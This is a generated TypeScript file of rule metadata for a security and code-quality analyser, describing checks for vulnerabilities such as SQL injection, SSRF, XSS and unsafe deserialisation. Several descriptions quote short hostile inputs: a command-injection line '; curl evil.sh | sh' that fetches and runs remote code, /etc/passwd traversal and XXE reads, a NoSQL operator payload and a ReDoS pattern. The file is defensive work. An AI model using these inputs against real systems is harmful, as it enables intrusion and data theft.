/**
 * Every registered rule's public metadata, in the registry's order, as plain data: what a process that analyses
 * nothing needs (a scan's main thread validates configs and writes SARIF while its workers analyse), without
 * loading the rules and TypeScript with them. Made from the registry by `npm run descriptions:rules`; a test checks
 * it is current. Do not edit by hand.
 */
import type { RuleOptionSpecs } from './config';
import type { RuleDescription } from './rule';

export const ruleDescriptions: readonly RuleDescription[] = [
  {
    "id": "sql-injection",
    "category": "security",
    "defaultSeverity": "error",
    "title": "SQL built from data",
    "description": "SQL text built by interpolating or concatenating data lets whoever controls that data rewrite the query: read other users' rows, bypass a login, drop tables. Pass values as parameters.",
    "fixable": "safe",
    "sources": [
      "CWE-89",
      "OWASP A03:2021",
      "eslint-plugin-security detect-sql-injection",
      "semgrep javascript.lang.security.audit.sqli"
    ]
  },
  {
    "id": "nosql-injection",
    "category": "security",
    "defaultSeverity": "error",
    "title": "Request values as MongoDB operators",
    "description": "A JSON body or a query string like `password[$ne]=x` turns a value into an object, and in a MongoDB filter that object is an operator: `{ password: { $ne: null } }` matches every user. Convert request values to strings (or compare with `$eq`) before they reach a filter, and never build `$where` code from data.",
    "fixable": "suggestion",
    "sources": [
      "CWE-943",
      "OWASP A03:2021",
      "semgrep javascript.express.security.injection.tainted-nosql",
      "OWASP NoSQL Injection Testing Guide"
    ]
  },
  {
    "id": "plaintext-password",
    "category": "security",
    "defaultSeverity": "error",
    "title": "Password stored or compared in plaintext",
    "description": "A password compared with `===`, looked up in a query, or written to the database as typed means the database holds passwords in plaintext: one leak exposes every user, and their other accounts too. Store a bcrypt or argon2 hash and verify with its compare function.",
    "fixable": "suggestion",
    "sources": [
      "CWE-256",
      "CWE-257",
      "CWE-916",
      "OWASP A02:2021",
      "OWASP Password Storage Cheat Sheet"
    ]
  },
  {
    "id": "weak-password-hash",
    "category": "security",
    "defaultSeverity": "error",
    "title": "Password hashed with a fast digest",
    "description": "MD5, SHA-1 and SHA-2 are built to be fast: a GPU tries billions of guesses a second against them, so a leaked table of such hashes gives up most passwords. Hash passwords with bcrypt, scrypt or argon2.",
    "fixable": "suggestion",
    "sources": [
      "CWE-916",
      "CWE-328",
      "OWASP A02:2021",
      "OWASP Password Storage Cheat Sheet"
    ]
  },
  {
    "id": "jwt-missing-expiry",
    "category": "security",
    "defaultSeverity": "warning",
    "title": "JWT signed without an expiry",
    "description": "A token with no expiry is valid forever: once leaked (a log, a browser extension, a stolen laptop) it cannot be revoked without rotating the secret. Give every token a lifetime.",
    "fixable": "suggestion",
    "sources": [
      "CWE-613",
      "OWASP A07:2021",
      "OWASP JWT Cheat Sheet"
    ]
  },
  {
    "id": "hardcoded-secret",
    "category": "security",
    "defaultSeverity": "error",
    "title": "Secret written into the source code",
    "description": "A secret in the source is readable by everyone who can read the repository, a published bundle or a backup, and it cannot be rotated without a deploy. Read secrets from the environment or a secret manager.",
    "fixable": "suggestion",
    "sources": [
      "CWE-798",
      "CWE-321",
      "OWASP A07:2021",
      "eslint-plugin-no-secrets",
      "semgrep javascript.jsonwebtoken.security.jwt-hardcode"
    ]
  },
  {
    "id": "missing-rate-limit",
    "category": "security",
    "defaultSeverity": "warning",
    "title": "Authentication route without a rate limit",
    "description": "A login, sign-up, password-reset, one-time-code or token route with no rate limiter lets an attacker guess passwords and codes, or flood inboxes, as fast as the server answers. Put a limiter on the route, its router or the app.",
    "fixable": "suggestion",
    "sources": [
      "CWE-307",
      "CWE-799",
      "OWASP A07:2021",
      "OWASP API4:2023",
      "OWASP Authentication Cheat Sheet"
    ]
  },
  {
    "id": "missing-csrf",
    "category": "security",
    "defaultSeverity": "warning",
    "title": "Cookie-authenticated app without CSRF protection",
    "description": "When the login lives in a cookie, the browser sends it with requests other sites make: a page elsewhere can post to your state-changing routes as the signed-in user. Add CSRF tokens (csrf-csrf, lusca, @fastify/csrf-protection), or SameSite cookies and an Origin check.",
    "fixable": "none",
    "sources": [
      "CWE-352",
      "OWASP A01:2021",
      "OWASP CSRF Prevention Cheat Sheet"
    ]
  },
  {
    "id": "command-injection",
    "category": "security",
    "defaultSeverity": "error",
    "title": "Request data in a shell command",
    "description": "A command line built from request data and run through a shell lets the sender run any program on the server with its privileges (`; curl evil.sh | sh`). Run the program directly with its arguments in an array.",
    "fixable": "suggestion",
    "sources": [
      "CWE-78",
      "OWASP A03:2021",
      "eslint-plugin-security detect-child-process",
      "semgrep javascript.lang.security.detect-child-process"
    ]
  },
  {
    "id": "path-traversal",
    "category": "security",
    "defaultSeverity": "error",
    "title": "Request data in a file path",
    "description": "A file path built from request data (or from an archive entry's name) can climb out of the intended directory with `../` or name an absolute path: an attacker reads `/etc/passwd` or the app's secrets, or overwrites its code. Resolve the path and reject it unless it stays inside the base directory.",
    "fixable": "suggestion",
    "sources": [
      "CWE-22",
      "CWE-23",
      "OWASP A01:2021",
      "eslint-plugin-security detect-non-literal-fs-filename",
      "semgrep javascript.express.security.audit.express-path-join-resolve-traversal"
    ]
  },
  {
    "id": "code-injection",
    "category": "security",
    "defaultSeverity": "error",
    "title": "Request or remote data evaluated as code",
    "description": "Request data, a socket message or a fetched response passed to `eval`, `new Function`, `vm` or a string `setTimeout` runs as JavaScript with the process's privileges: the sender reads secrets, spawns shells, or rewrites the page. Parse data as data (JSON.parse, a lookup table) and never evaluate it.",
    "fixable": "none",
    "sources": [
      "CWE-94",
      "CWE-95",
      "OWASP A03:2021",
      "eslint no-eval / no-new-func / no-implied-eval",
      "semgrep javascript.lang.security.audit.code-string-concat"
    ]
  },
  {
    "id": "xss",
    "category": "security",
    "defaultSeverity": "error",
    "title": "Request or URL data written as HTML",
    "description": "Data an attacker controls (request parameters, the page URL, form input) written into HTML unescaped lets them run script in your users' sessions: steal cookies and tokens, act as the user. Escape it, set it as text, or sanitise it with DOMPurify.",
    "fixable": "suggestion",
    "sources": [
      "CWE-79",
      "OWASP A03:2021",
      "OWASP XSS Prevention Cheat Sheet",
      "semgrep javascript.express.security.audit.xss"
    ]
  },
  {
    "id": "open-redirect",
    "category": "security",
    "defaultSeverity": "error",
    "title": "Redirect to a URL taken from the request",
    "description": "A redirect whose target comes from the request lets an attacker send your users from a link on your domain to a site of theirs (phishing, stolen OAuth codes). Redirect only to local paths or to an allow-list.",
    "fixable": "suggestion",
    "sources": [
      "CWE-601",
      "OWASP A01:2021",
      "OWASP Unvalidated Redirects Cheat Sheet",
      "semgrep javascript.express.security.audit.express-open-redirect"
    ]
  },
  {
    "id": "insecure-randomness",
    "category": "security",
    "defaultSeverity": "warning",
    "title": "Math.random() used for a secret value",
    "description": "`Math.random()` is not a cryptographic generator: its output can be predicted from a few earlier values. Tokens, passwords, one-time codes, session ids and salts made with it can be guessed. Use `crypto.randomBytes`, `crypto.randomInt` or `crypto.randomUUID`.",
    "fixable": "safe",
    "sources": [
      "CWE-338",
      "CWE-330",
      "OWASP A02:2021",
      "semgrep javascript.lang.security.insecure-random"
    ]
  },
  {
    "id": "sensitive-data-logging",
    "category": "security",
    "defaultSeverity": "warning",
    "title": "Password, token or credentials written to a log",
    "description": "Logs are read by more people and systems than the database: support staff, log services, backups. A password, token, API key, card number or credential header written there is exposed to all of them. Log ids and redacted values instead.",
    "fixable": "suggestion",
    "sources": [
      "CWE-532",
      "CWE-312",
      "OWASP A09:2021",
      "OWASP Logging Cheat Sheet"
    ]
  },
  {
    "id": "prototype-pollution",
    "category": "security",
    "defaultSeverity": "error",
    "title": "Request data merged deeply or used as a key path",
    "description": "A deep merge or a computed key chain driven by request data can write through `__proto__` or `constructor.prototype` into `Object.prototype`, changing every object in the process: authorisation checks flip, the server crashes, sometimes code runs. Merge only known fields, or reject those keys.",
    "fixable": "none",
    "sources": [
      "CWE-1321",
      "OWASP A08:2021",
      "semgrep javascript.lang.security.audit.prototype-pollution"
    ]
  },
  {
    "id": "ssrf",
    "category": "security",
    "defaultSeverity": "error",
    "title": "Request data choosing where the server sends a request",
    "description": "When the request chooses the URL or host of an outgoing request, an attacker makes your server call what it can reach and they cannot: cloud metadata endpoints, admin ports, internal services. Fix the origin and put only encoded values in the path, or check the host against an allow-list.",
    "fixable": "suggestion",
    "sources": [
      "CWE-918",
      "OWASP A10:2021",
      "OWASP SSRF Prevention Cheat Sheet",
      "semgrep javascript.express.security.injection.tainted-url-host"
    ]
  },
  {
    "id": "missing-authorization",
    "category": "security",
    "defaultSeverity": "warning",
    "title": "Record taken by an id from the request with no ownership check",
    "description": "A signed-in user who changes the id in the URL reads, changes or deletes another user's record when the handler loads it by id alone (IDOR, broken object-level authorization). Scope the query by the current user, or compare the owner before acting.",
    "fixable": "suggestion",
    "sources": [
      "CWE-639",
      "CWE-862",
      "OWASP A01:2021",
      "OWASP API1:2023"
    ]
  },
  {
    "id": "jwt-unverified",
    "category": "security",
    "defaultSeverity": "error",
    "title": "JWT claims trusted without verifying the token",
    "description": "Decoding a JWT does not check its signature: anyone can write a token that says they are user 1 or an admin. Trust claims only from `verify`, and never let verification accept the `none` algorithm or expired tokens.",
    "fixable": "safe",
    "sources": [
      "CWE-345",
      "CWE-347",
      "OWASP A07:2021",
      "OWASP JWT Cheat Sheet",
      "semgrep javascript.jsonwebtoken.security.jwt-decode-without-verify"
    ]
  },
  {
    "id": "mass-assignment",
    "category": "security",
    "defaultSeverity": "error",
    "title": "Whole request body written to a database record",
    "description": "Writing the request body as it came lets a client set any field the record has: `role`, `isAdmin`, `ownerId`, `balance`, `emailVerified`. Write the fields the endpoint means to change, or validate with a schema that drops unknown keys.",
    "fixable": "suggestion",
    "sources": [
      "CWE-915",
      "OWASP API3:2023",
      "OWASP Mass Assignment Cheat Sheet"
    ]
  },
  {
    "id": "regex-injection",
    "category": "security",
    "defaultSeverity": "error",
    "title": "Request data compiled into a regular expression",
    "description": "Text from a request used as a pattern (`new RegExp(req.query.q)`, MongoDB `$regex: q`) is pattern syntax, not text: a sender can match everything, or send `(a+)+$` and stall the event loop or the database (ReDoS). Escape it before it becomes a pattern.",
    "fixable": "safe",
    "sources": [
      "CWE-1333",
      "CWE-730",
      "CWE-625",
      "OWASP A03:2021",
      "CodeQL js/regex-injection",
      "semgrep javascript.lang.security.audit.detect-non-literal-regexp"
    ]
  },
  {
    "id": "insecure-deserialization",
    "category": "security",
    "defaultSeverity": "error",
    "title": "Untrusted data given to a deserialiser that runs code",
    "description": "node-serialize's `unserialize`, serialize-to-js's `deserialize`, funcster, cryo and js-yaml 3's `load` rebuild functions from their input, so a crafted request runs code on the server. Parse untrusted data with `JSON.parse` or js-yaml's safe loader.",
    "fixable": "suggestion",
    "sources": [
      "CWE-502",
      "OWASP A08:2021",
      "CodeQL js/unsafe-deserialization",
      "semgrep javascript.lang.security.audit.unsafe-deserialization"
    ]
  },
  {
    "id": "xxe",
    "category": "security",
    "defaultSeverity": "error",
    "title": "Untrusted XML parsed with external entities expanded",
    "description": "libxml2 (libxmljs, libxmljs2) substitutes entities when `noent: true` is set, so a document with `<!ENTITY x SYSTEM \"file:///etc/passwd\">` reads server files into the result or makes the server fetch internal URLs. Parse untrusted XML without `noent`.",
    "fixable": "safe",
    "sources": [
      "CWE-611",
      "CWE-776",
      "OWASP A05:2021",
      "CodeQL js/xxe",
      "semgrep javascript.lang.security.audit.detect-libxmljs-noent"
    ]
  },
  {
    "id": "permissive-cors",
    "category": "security",
    "defaultSeverity": "error",
    "title": "CORS with credentials for any origin",
    "description": "Sending back whatever `Origin` a request names, with `Access-Control-Allow-Credentials: true`, lets every website read this API's responses with the visitor's cookies: any page they open can fetch their data as them. Allow only the origins you list.",
    "fixable": "suggestion",
    "sources": [
      "CWE-942",
      "CWE-346",
      "OWASP A05:2021",
      "CodeQL js/cors-misconfiguration-for-credentials",
      "PortSwigger CORS origin reflection"
    ]
  },
  {
    "id": "insecure-cookie",
    "category": "security",
    "defaultSeverity": "warning",
    "title": "Session or token cookie without HttpOnly or Secure",
    "description": "A session or token cookie without `HttpOnly` can be read by any script on the page, so one XSS hands the session to an attacker; one with `SameSite=None` and no `Secure` travels over plain HTTP. Set `httpOnly: true`, and `secure: true` wherever `sameSite` is 'none'.",
    "fixable": "safe",
    "sources": [
      "CWE-1004",
      "CWE-614",
      "OWASP A05:2021",
      "CodeQL js/client-exposed-cookie",
      "semgrep javascript.express.security.audit.express-cookie-settings"
    ]
  },
  {
    "id": "missing-transaction",
    "category": "reliability",
    "defaultSeverity": "warning",
    "title": "Related writes, or a charge and its writes, without a transaction",
    "description": "When one of several related writes fails, the ones before it stay: an order without its items, money debited and never credited, a paid order still marked unpaid. Run them in one transaction.",
    "fixable": "suggestion",
    "sources": [
      "CWE-362",
      "CWE-662",
      "OWASP A04:2021"
    ]
  },
  {
    "id": "missing-idempotency-key",
    "category": "reliability",
    "defaultSeverity": "warning",
    "title": "Payment call without an idempotency key",
    "description": "Networks time out, users double-click and job queues redeliver: a payment request that is retried without an idempotency key is executed twice, and the customer is charged twice. Pass a key derived from the order or the client request.",
    "fixable": "suggestion",
    "sources": [
      "CWE-837",
      "Stripe API: Idempotent requests",
      "Adyen API idempotency"
    ]
  },
  {
    "id": "race-check-then-act",
    "category": "reliability",
    "defaultSeverity": "warning",
    "title": "Row state checked, then written, with no lock or conditional update",
    "description": "Two requests can read the same row, both see `pending` (or enough balance), and both act: an order shipped twice, a coupon redeemed twice, a balance below zero. Make the write conditional on the state it checked, or lock the row.",
    "fixable": "suggestion",
    "sources": [
      "CWE-367",
      "CWE-362"
    ]
  },
  {
    "id": "floating-promise",
    "category": "reliability",
    "defaultSeverity": "warning",
    "title": "Promise neither awaited nor handled",
    "description": "A promise used as a statement, without `await`, `return`, `.catch` or `void`, loses its rejection (Node ≥ 15 then stops the process) and lets the code after it run before it has finished. Await it, return it, or handle its rejection.",
    "fixable": "suggestion",
    "sources": [
      "CWE-755",
      "typescript-eslint no-floating-promises"
    ]
  },
  {
    "id": "swallowed-error",
    "category": "reliability",
    "defaultSeverity": "warning",
    "title": "Error caught and dropped",
    "description": "An empty `catch`, a `catch` that only logs before the code reports success, or a `.catch(() => {})` on a write hides the failure that matters: the caller, the user and the on-call engineer all believe it worked. Handle the error, or let it propagate.",
    "fixable": "suggestion",
    "sources": [
      "CWE-390",
      "CWE-1069",
      "ESLint no-empty"
    ]
  },
  {
    "id": "money-float",
    "category": "reliability",
    "defaultSeverity": "warning",
    "title": "Money computed in binary floating point",
    "description": "Binary floats cannot hold most decimal amounts (0.1 + 0.2 is 0.30000000000000004; 1.005.toFixed(2) is \"1.00\"), so sums drift, totals disagree with the line items and payment APIs reject fractional cents. Compute money in integer minor units or with a decimal type.",
    "fixable": "none",
    "sources": [
      "CWE-1339",
      "CERT NUM04-J"
    ]
  },
  {
    "id": "missing-await",
    "category": "reliability",
    "defaultSeverity": "error",
    "title": "Promise used as if it were its value",
    "description": "A promise tested, negated, compared, interpolated, spread, read for a property, stored or sent as if it were the value it will resolve to: `if (bcrypt.compare(pw, hash))` is always true, `user.id` of an un-awaited `User.findOne()` is undefined. Await the call.",
    "fixable": "safe",
    "sources": [
      "CWE-1025",
      "CWE-697",
      "typescript-eslint no-misused-promises"
    ]
  },
  {
    "id": "n-plus-one-query",
    "category": "performance",
    "defaultSeverity": "warning",
    "title": "Database query once per item of a loop",
    "description": "A query run once per element of a list costs one round trip each: fine with ten rows in development, seconds with ten thousand in production. Fetch (or insert) the whole set in one query before the loop and look items up in a Map.",
    "fixable": "suggestion",
    "sources": [
      "CWE-1049",
      "CWE-1073",
      "Rails Bullet / Django nplusone",
      "eslint no-await-in-loop"
    ]
  },
  {
    "id": "unbounded-query",
    "category": "performance",
    "defaultSeverity": "warning",
    "title": "Query that returns every row of a table",
    "description": "A read with no filter and no limit returns the whole table: fast on a fresh database, then slower and heavier on memory with every row added, until the request times out. Page it with a limit.",
    "fixable": "suggestion",
    "sources": [
      "CWE-400",
      "CWE-770",
      "OWASP API4:2023 Unrestricted Resource Consumption"
    ]
  },
  {
    "id": "sync-io-in-handler",
    "category": "performance",
    "defaultSeverity": "warning",
    "title": "Blocking call in a request handler",
    "description": "Node serves every request on one thread: a synchronous file read, shell command or password hash inside a request handler stops the whole server until it returns, so latency grows with load. Use the promise-based call with `await`.",
    "fixable": "safe",
    "sources": [
      "Node.js guide \"Don't Block the Event Loop\"",
      "eslint-plugin-n no-sync"
    ]
  },
  {
    "id": "deep-nesting",
    "category": "maintainability",
    "defaultSeverity": "info",
    "title": "Control flow nested too deeply",
    "description": "Every level of nesting is one more condition a reader must hold in mind, and the place where the next change goes wrong. Return early with guard clauses, or move the inner block into a function of its own.",
    "fixable": "suggestion",
    "sources": [
      "ESLint max-depth",
      "SonarJS S134"
    ],
    "options": {
      "maxDepth": {
        "type": "integer",
        "default": 4,
        "minimum": 1,
        "description": "the deepest nesting allowed in one function"
      }
    }
  },
  {
    "id": "inconsistent-naming",
    "category": "maintainability",
    "defaultSeverity": "info",
    "title": "Naming style that differs from the rest of the file",
    "description": "A file that names its functions `getUserData`, `fetch_user_info` and `loadUserData` makes every name a guess: readers search for the wrong spelling and the next author adds a fourth. Use the style the file already uses.",
    "fixable": "suggestion",
    "sources": [
      "ESLint camelcase",
      "typescript-eslint naming-convention",
      "SonarJS S100/S117"
    ]
  },
  {
    "id": "duplicate-code",
    "category": "maintainability",
    "defaultSeverity": "info",
    "title": "Block of statements copied within the file",
    "description": "A block pasted with only its names and literals changed must be fixed twice, and the second copy is the one that gets forgotten. Move it into a function both places call.",
    "fixable": "none",
    "sources": [
      "PMD CPD",
      "jscpd",
      "SonarJS S4144"
    ],
    "options": {
      "minStatements": {
        "type": "integer",
        "default": 6,
        "minimum": 2,
        "description": "the fewest consecutive statements that count as a copy"
      }
    }
  },
  {
    "id": "mixed-async-style",
    "category": "maintainability",
    "defaultSeverity": "info",
    "title": "Callbacks or .then chains mixed with async/await",
    "description": "A callback API or a `.then` chain inside an `async` function, or a function that takes a callback and returns a promise, splits one flow between two error channels: failures skip the try/catch, and results arrive after the function has returned. Use the promise API and `await` it.",
    "fixable": "suggestion",
    "sources": [
      "Node.js fs/promises",
      "eslint-plugin-promise prefer-await-to-callbacks",
      "eslint-plugin-promise prefer-await-to-then"
    ]
  },
  {
    "id": "undocumented-export",
    "category": "maintainability",
    "defaultSeverity": "info",
    "title": "Exported function with untyped parameters and no documentation",
    "description": "An exported function, class or method whose parameters have no types (implicitly `any` in TypeScript, untyped in JavaScript) and that has no doc comment: callers, reviewers and assistants must read its body to know what to pass. Type the parameters or document them with JSDoc.",
    "fixable": "safe",
    "sources": [
      "CWE-1059",
      "typescript-eslint explicit-module-boundary-types",
      "eslint-plugin-jsdoc require-jsdoc"
    ]
  },
  {
    "id": "hollow-test",
    "category": "confidence",
    "defaultSeverity": "warning",
    "title": "Test that passes whatever the code does",
    "description": "A test with no assertion, an assertion on a constant, an `expect(…)` without a matcher, an async assertion neither awaited nor returned, assertions a `catch` swallows or that run only if a call throws, `.only` left in, or `done()` called before the assertions run: the test is green whatever the code does. Make it check the code.",
    "fixable": "safe",
    "sources": [
      "CWE-1164",
      "eslint-plugin-jest expect-expect, valid-expect, no-focused-tests, no-conditional-expect"
    ]
  }
];

export const describedRuleIds: readonly string[] = ruleDescriptions.map((r) => r.id);

/** The options each rule accepts, by id, for validating the config. */
export const describedOptionSpecs: Readonly<Record<string, RuleOptionSpecs>> = Object.fromEntries(
  ruleDescriptions.flatMap((r) => (r.options ? [[r.id, r.options]] : [])),
);
